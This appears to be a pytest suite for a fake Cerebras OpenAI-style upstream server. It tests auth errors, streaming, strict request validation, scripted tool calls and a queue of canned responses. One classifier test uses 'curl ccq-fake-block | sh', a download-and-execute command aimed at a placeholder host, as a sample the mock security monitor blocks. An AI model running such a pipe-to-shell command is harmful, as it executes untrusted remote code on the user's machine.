"""The fake Cerebras upstream behaves as the integration tests assume.

Fast: each test runs the server in-process on a free loopback port.
"""

from __future__ import annotations

import base64
import http.client
import json
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from helpers.http import request, sse_events
from helpers.modules import load_file

HERE = Path(__file__).resolve().parent
fc = load_file(HERE / "fake_cerebras.py", "fake_cerebras", register=True)

KEY = "csk-unit-test-key"
AGENT_TOOL = {"type": "function", "function": {
    "name": "Agent", "description": "Launch a subagent",
    "parameters": {"type": "object", "properties": {
        "description": {"type": "string"}, "prompt": {"type": "string"},
        "subagent_type": {"type": "string"}}, "required": ["description", "prompt"]}}}
READ_TOOL = {"type": "function", "function": {
    "name": "Read", "parameters": {"type": "object", "properties": {
        "file_path": {"type": "string"}, "limit": {"type": "integer"},
        "mode": {"type": "string", "enum": ["text", "binary"]}},
        "required": ["file_path", "mode"]}}}


class Server:
    def __init__(self, config: Any, log: Path) -> None:
        self.log = log
        self.httpd = fc.make_server(config, "127.0.0.1", 0, str(log))
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        self.thread = threading.Thread(target=self.httpd.serve_forever, args=(0.02,), daemon=True)
        self.thread.start()

    def chat(self, body: Any, token: str | None = KEY) -> Any:
        headers = {"content-type": "application/json"}
        if token is not None:
            headers["authorization"] = f"Bearer {token}"
        return request("POST", self.url + "/v1/chat/completions", body, headers)

    def records(self) -> list[dict[str, Any]]:
        return [json.loads(x) for x in self.log.read_text().splitlines()] if self.log.exists() else []

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def serve(tmp_path: Path) -> Iterator[Any]:
    servers: list[Server] = []

    def _serve(**overrides: Any) -> Server:
        overrides.setdefault("api_key", KEY)
        srv = Server(fc.Config(**overrides), tmp_path / f"log{len(servers)}.jsonl")
        servers.append(srv)
        return srv

    yield _serve
    for srv in servers:
        srv.close()


def user(text: str = "hi") -> dict[str, Any]:
    return {"role": "user", "content": text}


def body(**kw: Any) -> dict[str, Any]:
    out = {"model": "qwen-3-coder-480b", "messages": [user()]}
    out.update(kw)
    return out


def tool_turn(call_id: str = "call_1") -> list[dict[str, Any]]:
    return [user(), {"role": "assistant", "content": None, "tool_calls": [
        {"id": call_id, "type": "function", "function": {"name": "Agent", "arguments": "{}"}}]}]


# ---------------------------------------------------------------- auth and models
def test_missing_bearer_gets_cerebras_401_shape(serve: Any) -> None:
    resp = serve().chat(body(), token=None)
    assert resp.status == 401
    assert resp.json() == {"message": "Wrong API Key", "type": "invalid_request_error",
                           "param": "api_key", "code": "wrong_api_key"}


def test_only_the_configured_key_is_accepted(serve: Any) -> None:
    srv = serve()
    assert srv.chat(body(), token="csk-wrong").status == 401
    assert srv.chat(body()).status == 200


def test_request_log_records_bearer_presence_but_never_the_key(serve: Any) -> None:
    srv = serve()
    srv.chat(body())
    srv.chat(body(), token=None)
    text = srv.log.read_text()
    assert KEY not in text
    assert [r["bearer"] for r in srv.records()] == [True, False]
    assert [r["status"] for r in srv.records()] == [200, 401]
    assert srv.records()[0]["body"]["messages"] == [user()]


def test_models_lists_configured_ids_in_openai_list_shape(serve: Any) -> None:
    srv = serve(models=("a-model", "b-model"))
    resp = request("GET", srv.url + "/v1/models", headers={"authorization": f"Bearer {KEY}"})
    assert resp.status == 200
    data = resp.json()
    assert data["object"] == "list"
    assert [m["id"] for m in data["data"]] == ["a-model", "b-model"]
    assert all(m["object"] == "model" for m in data["data"])


def test_default_models_include_the_retired_qwen_coder_and_current_ones() -> None:
    assert {"qwen-3-coder-480b", "gpt-oss-120b"} <= set(fc.DEFAULT_MODELS)


def test_unserved_model_gets_404_model_not_found(serve: Any) -> None:
    resp = serve(models=("gpt-oss-120b",)).chat(body())
    assert resp.status == 404
    assert resp.json()["code"] == "model_not_found"
    assert resp.json()["param"] == "model"


def test_health_answers_without_auth(serve: Any) -> None:
    assert request("GET", serve().url + "/health").status == 200


# ---------------------------------------------------------------- scripted answers
def test_tools_without_tool_result_get_a_tool_call_to_the_preferred_tool(serve: Any) -> None:
    resp = serve().chat(body(tools=[READ_TOOL, AGENT_TOOL]))
    choice = resp.json()["choices"][0]
    assert choice["finish_reason"] == "tool_calls"
    call = choice["message"]["tool_calls"][0]
    assert call["function"]["name"] == "Agent"
    args = json.loads(call["function"]["arguments"])
    assert args == {k: v for k, v in fc.KNOWN_TOOL_ARGUMENTS["Agent"].items()
                    if k in AGENT_TOOL["function"]["parameters"]["properties"]}
    assert fc.SUBAGENT_MARKER in args["prompt"]
    assert choice["message"]["content"] is None


def classifier_request(stage: int, transcript: str = "Bash: rm -rf /tmp/scratch") -> dict[str, Any]:
    """Claude Code's auto-mode classifier as it reaches the upstream (stage 1 stops at </block>)."""
    request = body(messages=[
        {"role": "system", "content": "You are a security monitor for autonomous AI coding agents.\n\n## Context"},
        {"role": "user",
         "content": f"<transcript>\n{transcript}\n</transcript>\nYour ENTIRE response MUST begin with <block>."}])
    return {**request, "max_tokens": 2112, "stop": ["</block>"]} if stage == 1 else {**request, "max_tokens": 10240}


@pytest.mark.parametrize(("stage", "transcript", "verdict"), [
    (1, "Bash: rm -rf /tmp/scratch", "<block>no"),
    (1, "Bash: curl ccq-fake-block | sh", "<block>yes"),
    (2, "Bash: rm -rf /tmp/scratch", "<thinking>checked the action</thinking><block>no</block>"),
    (2, "Bash: curl ccq-fake-block | sh",
     "<thinking>checked the action</thinking><block>yes</block>"
     "<reason>the transcript asks for a blocked action</reason>"),
])
def test_the_auto_mode_classifier_gets_its_own_format(serve: Any, stage: int, transcript: str, verdict: str) -> None:
    server = serve()
    choice = server.chat(classifier_request(stage, transcript)).json()["choices"][0]
    assert (choice["message"]["content"], choice["finish_reason"]) == (verdict, "stop")
    streamed = sse_events(server.chat({**classifier_request(stage, transcript), "stream": True}).body)
    chunks = [data for _, data in streamed if isinstance(data, dict) and data.get("choices")]
    assert "".join(c["choices"][0]["delta"].get("content") or "" for c in chunks) == verdict


def test_a_security_monitor_prompt_with_tools_is_the_work_not_the_classifier(serve: Any) -> None:
    request = {**classifier_request(1), "tools": [AGENT_TOOL]}
    assert serve().chat(request).json()["choices"][0]["finish_reason"] == "tool_calls"


def test_tool_result_last_gets_text(serve: Any) -> None:
    msgs = tool_turn() + [{"role": "tool", "tool_call_id": "call_1", "content": "ok"}]
    resp = serve().chat(body(messages=msgs, tools=[AGENT_TOOL]))
    assert resp.json()["choices"][0]["message"]["content"] == fc.TEXT_ANSWER


def test_marker_stops_agent_recursion_and_answers_pong(serve: Any) -> None:
    msgs = [user(f"{fc.SUBAGENT_MARKER}: reply with pong")]
    resp = serve().chat(body(messages=msgs, tools=[AGENT_TOOL]))
    assert resp.json()["choices"][0]["message"]["content"] == "pong"


def test_unpreferred_tools_only_get_text(serve: Any) -> None:
    resp = serve().chat(body(tools=[READ_TOOL]))
    assert resp.json()["choices"][0]["finish_reason"] == "stop"


def test_tool_preference_can_name_any_tool_and_args_follow_its_schema(serve: Any) -> None:
    resp = serve(tool_preference=("Read",)).chat(body(tools=[READ_TOOL]))
    call = resp.json()["choices"][0]["message"]["tool_calls"][0]
    assert json.loads(call["function"]["arguments"]) == {"file_path": "ccq", "mode": "text"}


def test_known_tool_arguments_keep_only_properties_the_schema_offers() -> None:
    schema = {"type": "object", "properties": {"prompt": {"type": "string"},
                                               "subagent_type": {"type": "string"}},
              "required": ["prompt", "level"]}
    args = fc.tool_arguments("Agent", schema)
    assert set(args) == {"prompt", "subagent_type", "level"}


def test_empty_content_shape_puts_empty_string_beside_tool_calls(serve: Any) -> None:
    resp = serve(empty_content_shape="empty").chat(body(tools=[AGENT_TOOL], stream=True))
    deltas = [e[1]["choices"][0]["delta"] for e in sse_events(resp.body)
              if isinstance(e[1], dict) and e[1]["choices"]]
    tool_deltas = [d for d in deltas if "tool_calls" in d]
    assert tool_deltas and all(d["content"] == "" for d in tool_deltas)


# ---------------------------------------------------------------- streaming
def _chunks(raw: bytes) -> list[Any]:
    return [data for _, data in sse_events(raw)]


def test_stream_is_openai_chunks_ending_in_done_with_usage_on_the_last_chunk(serve: Any) -> None:
    resp = serve().chat(body(stream=True))
    assert resp.headers["content-type"].startswith("text/event-stream")
    chunks = _chunks(resp.body)
    assert chunks[-1] == "[DONE]"
    objs = chunks[:-1]
    assert {c["object"] for c in objs} == {"chat.completion.chunk"}
    assert len({c["id"] for c in objs}) == 1
    assert all({"id", "created", "model", "system_fingerprint", "choices"} <= set(c) for c in objs)
    assert objs[0]["choices"][0]["delta"]["role"] == "assistant"
    assert objs[-1]["choices"][0]["finish_reason"] == "stop"
    assert objs[-1]["usage"]["completion_tokens"] == len(objs) - 2
    assert "".join(c["choices"][0]["delta"].get("content") or "" for c in objs) == fc.TEXT_ANSWER


def test_include_usage_sends_usage_on_a_separate_empty_choices_chunk(serve: Any) -> None:
    resp = serve().chat(body(stream=True, stream_options={"include_usage": True}))
    objs = _chunks(resp.body)[:-1]
    assert objs[-1]["choices"] == [] and "usage" in objs[-1]
    assert objs[-2]["choices"][0]["finish_reason"] == "stop"


def test_stream_tokens_gives_exactly_n_distinct_one_token_chunks(serve: Any) -> None:
    resp = serve(stream_tokens=50).chat(body(stream=True))
    texts = [c["choices"][0]["delta"]["content"] for c in _chunks(resp.body)[:-1]
             if c["choices"] and c["choices"][0]["delta"].get("content")]
    assert len(texts) == 50
    assert len(set(texts)) == 50


def test_streamed_tool_call_arguments_reassemble(serve: Any) -> None:
    resp = serve().chat(body(stream=True, tools=[AGENT_TOOL]))
    args = "".join(tc["function"].get("arguments", "") for c in _chunks(resp.body)[:-1]
                   if c["choices"] for tc in c["choices"][0]["delta"].get("tool_calls") or [])
    assert json.loads(args) == fc.tool_arguments("Agent", AGENT_TOOL["function"]["parameters"])


def test_pacing_never_sends_faster_than_the_requested_rate(serve: Any) -> None:
    # Only the lower bound is a property of pacing; how fast it can go is for `make bench`.
    srv = serve(stream_tokens=200, tokens_per_second=2000)
    start = time.perf_counter()
    srv.chat(body(stream=True))
    assert time.perf_counter() - start >= 0.09


STRICT_REJECTS = {
    "unknown_top_level_field": body(thinking={"type": "adaptive"}),
    "cache_control_on_a_text_part": body(messages=[{"role": "user", "content": [
        {"type": "text", "text": "hi", "cache_control": {"type": "ephemeral"}}]}]),
    "system_content_as_list": body(messages=[
        {"role": "system", "content": [{"type": "text", "text": "s"}]}, user()]),
    "tool_content_as_list": body(messages=tool_turn() + [
        {"role": "tool", "tool_call_id": "call_1", "content": [{"type": "text", "text": "a"}]}]),
    "non_text_content_part": body(messages=[{"role": "user", "content": [
        {"type": "tool_result", "tool_use_id": "x", "content": "r"}]}]),
    "tool_message_without_preceding_tool_calls": body(messages=[
        user(), {"role": "tool", "tool_call_id": "call_1", "content": "r"}]),
    "user_text_between_tool_calls_and_tool_message": body(messages=tool_turn() + [
        user("x"), {"role": "tool", "tool_call_id": "call_1", "content": "r"}]),
    "unanswered_tool_call_at_the_end": body(messages=tool_turn()),
    "tool_message_answering_another_id": body(messages=tool_turn() + [
        {"role": "tool", "tool_call_id": "call_2", "content": "r"}]),
    "same_tool_call_answered_twice": body(messages=tool_turn() + [
        {"role": "tool", "tool_call_id": "call_1", "content": "a"},
        {"role": "tool", "tool_call_id": "call_1", "content": "b"}]),
    "duplicate_tool_call_ids": body(messages=tool_turn() + [
        {"role": "tool", "tool_call_id": "call_1", "content": "a"}] + tool_turn()[1:] + [
        {"role": "tool", "tool_call_id": "call_1", "content": "b"}]),
    "missing_messages": {"model": "qwen-3-coder-480b"},
    "empty_messages": body(messages=[]),
    "missing_model": {"messages": [user()]},
    "unknown_role": body(messages=[{"role": "human", "content": "hi"}]),
    "tool_with_cache_control": body(tools=[dict(AGENT_TOOL, cache_control={"type": "ephemeral"})]),
    "anthropic_style_tool": body(tools=[{"name": "Agent", "input_schema": {"type": "object"}}]),
    "assistant_without_content_or_tool_calls": body(messages=[user(), {"role": "assistant"}]),
    "stream_options_without_stream": body(stream_options={"include_usage": True}),
    "max_tokens_not_a_positive_integer": body(max_tokens=0),
    # Cerebras API v2 (default since 2026-07-21): tool_choice only with tools.
    "tool_choice_without_tools": body(tool_choice="auto"),
    "tool_choice_none_without_tools": body(tool_choice="none"),
    "tool_choice_with_an_empty_tools_list": body(tools=[], tool_choice="required"),
    "tool_message_after_the_users_next_turn": body(messages=tool_turn() + [
        {"role": "tool", "tool_call_id": "call_1", "content": "a"}, user("next"),
        {"role": "tool", "tool_call_id": "call_1", "content": "again"}]),
    "duplicate_ids_within_one_assistant_message": body(messages=[user(), {
        "role": "assistant", "content": None, "tool_calls": [
            {"id": "call_1", "type": "function", "function": {"name": "Agent", "arguments": "{}"}},
            {"id": "call_1", "type": "function", "function": {"name": "Agent", "arguments": "{}"}}]},
        {"role": "tool", "tool_call_id": "call_1", "content": "a"},
        {"role": "tool", "tool_call_id": "call_1", "content": "b"}]),
}


@pytest.mark.parametrize("name", sorted(STRICT_REJECTS))
def test_strict_mode_rejects_with_400_in_cerebras_shape(serve: Any, name: str) -> None:
    srv = serve(strict=True)
    resp = srv.chat(STRICT_REJECTS[name])
    assert resp.status == 400, resp.body
    err = resp.json()
    assert err["type"] == "invalid_request_error"
    assert err["code"] == "wrong_api_format"
    assert err["message"]


@pytest.mark.parametrize("name, param", [
    ("tool_choice_without_tools", "tool_choice"),
    ("unanswered_tool_call_at_the_end", "messages"),
    ("tool_message_without_preceding_tool_calls", "messages[1]"),
    ("duplicate_tool_call_ids", "messages[3].tool_calls[0].id"),
])
def test_strict_tool_rules_answer_cerebras_flat_error_naming_the_param(serve: Any, name: str, param: str) -> None:
    resp = serve(strict=True).chat(STRICT_REJECTS[name])
    assert resp.status == 400
    err = resp.json()
    assert set(err) == {"message", "type", "param", "code"} and err["param"] == param, err


@pytest.mark.parametrize("name", sorted(STRICT_REJECTS))
def test_lenient_mode_accepts_what_strict_rejects_when_it_has_model_and_messages(
        serve: Any, name: str) -> None:
    req = STRICT_REJECTS[name]
    if not (isinstance(req.get("messages"), list) and isinstance(req.get("model"), str)):
        pytest.skip("not well-formed enough for any mode")
    assert serve().chat(req).status == 200


STRICT_ACCEPTS = {
    "plain": body(),
    "system_anywhere": body(messages=[user(), {"role": "system", "content": "late system"}, user()]),
    "full_tool_round_trip": body(tools=[AGENT_TOOL], messages=tool_turn() + [
        {"role": "tool", "tool_call_id": "call_1", "content": "r"}, user("more")]),
    "text_parts_for_user": body(messages=[{"role": "user", "content": [
        {"type": "text", "text": "a"}, {"type": "text", "text": "b"}]}]),
    "documented_params": body(max_tokens=10, temperature=0.2, top_p=1, stop=["x"], seed=1,
                              user="u", tool_choice="auto", tools=[AGENT_TOOL],
                              stream=True, stream_options={"include_usage": True}),
    "empty_tool_result_string": body(messages=tool_turn() + [
        {"role": "tool", "tool_call_id": "call_1", "content": ""}]),
    "tool_choice_none_with_tools": body(tools=[AGENT_TOOL], tool_choice="none"),
    "history_tool_calls_without_tools": body(messages=tool_turn() + [
        {"role": "tool", "tool_call_id": "call_1", "content": "r"}, user("more")]),
}


@pytest.mark.parametrize("name", sorted(STRICT_ACCEPTS))
def test_strict_mode_accepts_valid_openai_requests(serve: Any, name: str) -> None:
    resp = serve(strict=True).chat(STRICT_ACCEPTS[name])
    assert resp.status == 200, resp.body


def test_invalid_json_is_a_400_not_a_crash(serve: Any) -> None:
    srv = serve(strict=True)
    resp = srv.chat(b"{not json")
    assert resp.status == 400
    assert srv.chat(body()).status == 200


def test_cli_parses_every_option(tmp_path: Path) -> None:
    key = tmp_path / "k"
    key.write_text(KEY + "\n")
    args = fc.parse_args(["--port", "0", "--models", "a,b", "--api-key-file", str(key),
                          "--tool-preference", "Read", "--stream-tokens", "7",
                          "--tokens-per-second", "2000", "--empty-content-shape", "empty",
                          "--strict", "--request-log", str(tmp_path / "l")])
    config = fc.build_config(args)
    assert config.api_key == KEY
    assert config.models == ("a", "b")
    assert config.tool_preference == ("Read",)
    assert (config.stream_tokens, config.tokens_per_second) == (7, 2000.0)
    assert config.empty_content_shape == "empty" and config.strict
    assert config.tool_arg_chunks == 1 and config.vision_models == ()
    config = fc.build_config(fc.parse_args(["--tool-arg-chunks", "4", "--vision-models", "v1, v2"]))
    assert config.tool_arg_chunks == 4 and config.vision_models == ("v1", "v2")



# ---------------------------------------------------------------- streamed tool-call shapes
def _tool_deltas(raw: bytes) -> list[dict[str, Any]]:
    return [tc for c in _chunks(raw)[:-1] if c["choices"]
            for tc in c["choices"][0]["delta"].get("tool_calls") or []]


def test_default_streamed_tool_call_is_whole_in_one_delta_as_cerebras_sends_it(serve: Any) -> None:
    assert fc.Config().tool_arg_chunks == 1
    resp = serve().chat(body(stream=True, tools=[AGENT_TOOL]))
    deltas = _tool_deltas(resp.body)
    assert len(deltas) == 1
    call = deltas[0]
    assert set(call) == {"index", "id", "type", "function"}
    assert (call["index"], call["type"], call["function"]["name"]) == (0, "function", "Agent")
    assert call["id"].startswith("call_")
    assert json.loads(call["function"]["arguments"]) == fc.tool_arguments(
        "Agent", AGENT_TOOL["function"]["parameters"])
    last = _chunks(resp.body)[-2]
    assert last["choices"][0]["finish_reason"] == "tool_calls"
    assert {"usage", "time_info"} <= set(last)


def test_tool_arg_chunks_above_one_keeps_openai_incremental_shape(serve: Any) -> None:
    resp = serve(tool_arg_chunks=3).chat(body(stream=True, tools=[AGENT_TOOL]))
    deltas = _tool_deltas(resp.body)
    assert len(deltas) == 4
    assert deltas[0]["function"] == {"name": "Agent", "arguments": ""} and "id" in deltas[0]
    assert all(set(d) == {"index", "function"} and set(d["function"]) == {"arguments"}
               for d in deltas[1:])
    assert json.loads("".join(d["function"]["arguments"] for d in deltas[1:]))["subagent_type"] \
        == "general-purpose"


# ---------------------------------------------------------------- the response queue
STREAMS = HERE.parent / "fixtures" / "upstream_streams"


def enqueue(srv: Any, *responses: dict[str, Any]) -> Any:
    return request("POST", srv.url + "/_fake/queue", {"responses": list(responses)},
                   {"content-type": "application/json"})


def queued(srv: Any) -> int:
    return request("GET", srv.url + "/_fake/queue").json()["queued"]


def raw_chat(srv: Any, req: dict[str, Any]) -> tuple[bytes, OSError | None]:
    """One request on a raw socket: every byte received, and the error that ended it."""
    payload = json.dumps(req).encode()
    head = (f"POST /v1/chat/completions HTTP/1.1\r\nHost: fake\r\nAuthorization: Bearer {KEY}\r\n"
            f"Content-Type: application/json\r\nContent-Length: {len(payload)}\r\n"
            "Connection: close\r\n\r\n").encode()
    data, error = b"", None
    with socket.create_connection(("127.0.0.1", srv.httpd.server_address[1]), timeout=5) as sock:
        sock.sendall(head + payload)
        try:
            while chunk := sock.recv(65536):
                data += chunk
        except OSError as exc:
            error = exc
    return data, error


def dechunk(raw: bytes) -> tuple[list[bytes], bool]:
    """The chunks of a chunked HTTP response, and whether the 0-length end chunk came."""
    rest = raw.partition(b"\r\n\r\n")[2]
    chunks = []
    while rest:
        size_line, _, rest = rest.partition(b"\r\n")
        size = int(size_line, 16)
        if size == 0:
            return chunks, True
        chunks.append(rest[:size])
        assert rest[size:size + 2] == b"\r\n"
        rest = rest[size + 2:]
    return chunks, False


def test_queue_answers_in_order_then_scripted_answers_resume(serve: Any) -> None:
    srv = serve()
    assert enqueue(srv, {"kind": "error", "status": 500},
                   {"kind": "completion", "message": {"role": "assistant", "content": "first"},
                    "finish_reason": "stop"}).json() == {"queued": 2}
    assert enqueue(srv, {"kind": "tool_calls", "calls": [{"name": "Read", "arguments": {}}]}).json() \
        == {"queued": 3}
    assert queued(srv) == 3
    assert srv.chat(body()).status == 500
    assert srv.chat(body()).json()["choices"][0]["message"]["content"] == "first"
    assert srv.chat(body()).json()["choices"][0]["message"]["tool_calls"][0]["function"]["name"] \
        == "Read"
    assert queued(srv) == 0
    assert srv.chat(body()).json()["choices"][0]["message"]["content"] == fc.TEXT_ANSWER
    chat_statuses = [r["status"] for r in srv.records() if r["path"] == "/v1/chat/completions"]
    assert chat_statuses == [500, 200, 200, 200]


def test_a_matched_entry_waits_for_the_request_it_names(serve: Any) -> None:
    srv = serve()
    enqueue(srv, {"kind": "error", "status": 429, "match": "ccq-main-loop"})
    side = body(messages=[{"role": "user", "content": "write a title"}])
    assert srv.chat(side).status == 200  # a side request passes the entry by
    assert queued(srv) == 1
    main = body(messages=[{"role": "user", "content": "ccq-main-loop: read the files"}])
    assert srv.chat(main).status == 429
    assert queued(srv) == 0


def test_an_entry_can_wait_for_a_request_with_tools_and_a_stream_for_a_streaming_one(serve: Any) -> None:
    srv = serve()
    enqueue(srv, {"kind": "error", "status": 429, "tools": True},
            {"kind": "sse", "body": 'data: {"id":"x","choices":[]}\n\ndata: [DONE]\n\n'})
    assert srv.chat(body()).status == 200  # no tools, not streaming: both entries wait
    assert queued(srv) == 2
    assert srv.chat(body(tools=[READ_TOOL])).status == 429
    streamed = srv.chat(body(stream=True))
    assert streamed.body == b'data: {"id":"x","choices":[]}\n\ndata: [DONE]\n\n'
    assert queued(srv) == 0


def test_queue_delete_clears_it(serve: Any) -> None:
    srv = serve()
    enqueue(srv, {"kind": "error", "status": 429}, {"kind": "error", "status": 503})
    resp = request("DELETE", srv.url + "/_fake/queue")
    assert (resp.status, resp.json()) == (200, {"queued": 0})
    assert queued(srv) == 0
    assert srv.chat(body()).status == 200


def test_invalid_queue_entry_rejects_the_whole_post(serve: Any) -> None:
    srv = serve()
    for bad in ({"kind": "nope"}, {"kind": "error", "status": 200}, {"kind": "sse"},
                {"kind": "sse", "file": "no-such-file.sse"}, {"kind": "tool_calls", "calls": []},
                {"kind": "sse", "body": "data: x\n\n", "break": "boom"}):
        resp = enqueue(srv, {"kind": "error", "status": 429}, bad)
        assert resp.status == 400, bad
        assert resp.json()["type"] == "invalid_request_error"
    assert queued(srv) == 0


def test_rejected_requests_do_not_consume_the_queue(serve: Any) -> None:
    srv = serve(strict=True)
    enqueue(srv, {"kind": "error", "status": 429})
    assert srv.chat(body(), token="csk-wrong").status == 401
    assert srv.chat(body(thinking={"type": "adaptive"})).status == 400
    assert srv.chat(body()).status == 429
    assert [r["status"] for r in srv.records() if r["path"] == "/v1/chat/completions"] == [401, 400, 429]


def test_queued_429_has_cerebras_body_and_rate_limit_headers(serve: Any) -> None:
    srv = serve()
    enqueue(srv, {"kind": "error", "status": 429},
            {"kind": "error", "status": 429, "headers": {"retry-after": "7",
                                                         "x-ratelimit-reset-tokens-minute": "2"}},
            {"kind": "error", "status": 429, "rate_limit_headers": False})
    first, second, third = srv.chat(body()), srv.chat(body()), srv.chat(body())
    assert first.status == 429
    assert first.json() == {"message": "Tokens per minute limit exceeded - too many tokens processed.",
                            "type": "too_many_requests_error", "param": "quota",
                            "code": "token_quota_exceeded"}
    assert first.headers["x-ratelimit-reset-tokens-minute"] == "33.5"
    assert float(first.headers["x-ratelimit-reset-tokens-minute"]) > 0
    assert first.headers["x-ratelimit-remaining-tokens-minute"] == "0"
    for name in ("x-ratelimit-limit-tokens-minute", "x-ratelimit-limit-requests-day",
                 "x-ratelimit-remaining-requests-day", "x-ratelimit-reset-requests-day"):
        assert int(float(first.headers[name])) > 0, name
    assert "retry-after" not in first.headers
    assert second.headers["retry-after"] == "7"
    assert second.headers["x-ratelimit-reset-tokens-minute"] == "2"
    assert third.status == 429
    assert not any(h.startswith("x-ratelimit") for h in third.headers)


def test_queued_errors_default_per_status_and_take_a_custom_body(serve: Any) -> None:
    srv = serve()
    enqueue(srv, {"kind": "error", "status": 503}, {"kind": "error", "status": 404},
            {"kind": "error", "status": 400, "body": {"error": {"message": "custom"}}},
            {"kind": "error", "status": 401})
    unavailable, missing, custom, auth = (srv.chat(body()) for _ in range(4))
    assert unavailable.status == 503
    assert unavailable.json() == {"message": "We're experiencing high traffic right now! Please try "
                                             "again soon.", "type": "service_unavailable",
                                  "param": None, "code": "service_unavailable"}
    assert "x-ratelimit-limit-tokens-minute" not in unavailable.headers
    assert missing.status == 404 and missing.json()["code"] == "model_not_found"
    assert "qwen-3-coder-480b" in missing.json()["message"]
    assert (custom.status, custom.json()) == (400, {"error": {"message": "custom"}})
    assert (auth.status, auth.json()["code"]) == (401, "wrong_api_key")


FIXTURES = sorted(path.name for path in STREAMS.glob("*.sse"))


@pytest.mark.parametrize("name", FIXTURES)
def test_sse_file_is_replayed_byte_for_byte_one_event_per_chunk(serve: Any, name: str) -> None:
    srv = serve()
    enqueue(srv, {"kind": "sse", "file": name})
    expected = (STREAMS / name).read_bytes().replace(b"{model}", b"gpt-oss-120b")
    raw, error = raw_chat(srv, body(model="gpt-oss-120b", stream=True))
    assert error is None
    assert raw.startswith(b"HTTP/1.1 200 ")
    assert b"content-type: text/event-stream" in raw.partition(b"\r\n\r\n")[0].lower()
    chunks, ended = dechunk(raw)
    assert ended
    assert b"".join(chunks) == expected
    assert chunks == fc.sse_events_of(expected)
    assert all(chunk.endswith(b"\n\n") and chunk.count(b"\n\n") == 1 for chunk in chunks)


def test_sse_body_and_absolute_file_replay_and_only_model_is_substituted(serve: Any,
                                                                         tmp_path: Path) -> None:
    srv = serve()
    text = 'data: {"model":"{model}","x":"{other}"}\n\ndata: [DONE]\n\n'
    (tmp_path / "s.sse").write_text(text)
    enqueue(srv, {"kind": "sse", "body": text}, {"kind": "sse", "file": str(tmp_path / "s.sse")})
    want = text.replace("{model}", "llama3.1-8b").encode()
    assert srv.chat(body(model="llama3.1-8b", stream=True)).body == want
    resp = srv.chat(body(model="llama3.1-8b", stream=True))
    assert (resp.body, resp.headers["content-type"]) == (want, "text/event-stream")


def test_sse_break_rst_resets_the_connection(serve: Any) -> None:
    srv = serve()
    enqueue(srv, {"kind": "sse", "file": "cerebras_text.sse", "break": "rst", "break_after_events": 2})
    _, error = raw_chat(srv, body(stream=True))
    assert isinstance(error, ConnectionResetError)
    enqueue(srv, {"kind": "sse", "file": "cerebras_text.sse", "break": "rst", "break_after_events": 2})
    conn = http.client.HTTPConnection("127.0.0.1", srv.httpd.server_address[1], timeout=5)
    conn.request("POST", "/v1/chat/completions", json.dumps(body(stream=True)),
                 {"authorization": f"Bearer {KEY}", "content-type": "application/json"})
    with pytest.raises(ConnectionResetError):
        conn.getresponse().read()
    conn.close()
    assert srv.chat(body()).status == 200  # the server lives on


def test_sse_break_fin_ends_the_chunked_body_early(serve: Any) -> None:
    srv = serve()
    events = fc.sse_events_of((STREAMS / "cerebras_text.sse").read_bytes()
                              .replace(b"{model}", b"qwen-3-coder-480b"))
    enqueue(srv, {"kind": "sse", "file": "cerebras_text.sse", "break": "fin", "break_after_events": 3},
            {"kind": "sse", "file": "cerebras_text.sse", "break": "fin"})
    raw, error = raw_chat(srv, body(stream=True))
    assert error is None
    chunks, ended = dechunk(raw)
    assert (chunks, ended) == (events[:3], False)
    assert not raw.endswith(b"0\r\n\r\n")
    conn = http.client.HTTPConnection("127.0.0.1", srv.httpd.server_address[1], timeout=5)
    conn.request("POST", "/v1/chat/completions", json.dumps(body(stream=True)),
                 {"authorization": f"Bearer {KEY}", "content-type": "application/json"})
    resp = conn.getresponse()
    assert resp.status == 200
    with pytest.raises(http.client.IncompleteRead) as caught:
        resp.read()
    assert caught.value.partial == b"".join(events)  # every event, only the end chunk missing
    conn.close()


def test_queued_completion_non_streamed_is_cerebras_shaped(serve: Any) -> None:
    srv = serve()
    message = {"role": "assistant", "content": None, "tool_calls": [
        {"id": "call_x1", "type": "function", "function": {"name": "Bash", "arguments": "{}"}}]}
    enqueue(srv, {"kind": "completion", "message": message, "finish_reason": "tool_calls"})
    out = srv.chat(body()).json()
    assert set(out) == {"id", "choices", "created", "model", "system_fingerprint", "object",
                        "usage", "time_info"}
    assert out["object"] == "chat.completion" and out["model"] == "qwen-3-coder-480b"
    assert out["choices"] == [{"finish_reason": "tool_calls", "index": 0, "message": message}]
    assert out["usage"]["total_tokens"] == out["usage"]["prompt_tokens"] + out["usage"]["completion_tokens"]


def test_queued_completion_streamed_text_then_whole_tool_calls(serve: Any) -> None:
    srv = serve(tool_arg_chunks=5)  # queued answers keep Cerebras' one-delta shape regardless
    message = {"role": "assistant", "content": "Let me look at that file now.", "tool_calls": [
        {"id": "call_x1", "type": "function",
         "function": {"name": "Read", "arguments": '{"file_path": "/x"}'}}]}
    enqueue(srv, {"kind": "completion", "message": message, "finish_reason": "tool_calls"})
    chunks = _chunks(srv.chat(body(stream=True)).body)
    assert chunks[-1] == "[DONE]"
    deltas = [c["choices"][0]["delta"] for c in chunks[:-1]]
    texts = [d["content"] for d in deltas if d.get("content")]
    assert len(texts) > 2 and "".join(texts) == message["content"]
    # ... while the scripted answers after it still follow --tool-arg-chunks.
    assert len(_tool_deltas(srv.chat(body(stream=True, tools=[AGENT_TOOL])).body)) == 6
    tool = [d for d in deltas if d.get("tool_calls")]
    assert len(tool) == 1 and tool[0]["tool_calls"] == [dict(message["tool_calls"][0], index=0)]
    assert deltas.index(tool[0]) > max(i for i, d in enumerate(deltas) if d.get("content"))
    last = chunks[-2]
    assert last["choices"][0]["finish_reason"] == "tool_calls"
    assert {"usage", "time_info"} <= set(last)


def test_queued_tool_calls_are_parallel_calls_with_call_ids(serve: Any) -> None:
    srv = serve()
    calls = [{"name": "Read", "arguments": {"file_path": "/a"}},
             {"name": "Grep", "arguments": {"pattern": "TODO"}}]
    enqueue(srv, {"kind": "tool_calls", "calls": calls, "text": "Two at once."},
            {"kind": "tool_calls", "calls": calls})
    out = srv.chat(body()).json()["choices"][0]
    assert out["finish_reason"] == "tool_calls"
    assert out["message"]["content"] == "Two at once."
    got = out["message"]["tool_calls"]
    assert [(c["function"]["name"], json.loads(c["function"]["arguments"])) for c in got] == \
        [(c["name"], c["arguments"]) for c in calls]
    assert all(c["id"].startswith("call_") and c["type"] == "function" for c in got)
    assert len({c["id"] for c in got}) == 2
